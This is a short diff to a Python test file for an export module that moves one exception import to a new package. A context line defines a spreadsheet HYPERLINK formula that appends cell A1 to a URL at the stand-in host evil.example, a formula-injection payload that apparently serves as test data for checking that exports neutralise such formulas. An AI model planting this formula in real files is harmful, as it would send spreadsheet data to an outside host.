@@ -15,8 +15,8 @@ import pytest
 from hub.export import build, csvfile, html, load
 from hub.export.files import export_match
 from hub.export.history import Query, search
-from hub.reconcile.checks import RefereeInputError
 from hub.store.database import Store
+from hub.vocab.checks import RefereeInputError
 from tests.hub.test_damage import make_hub
 
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ivan\")"
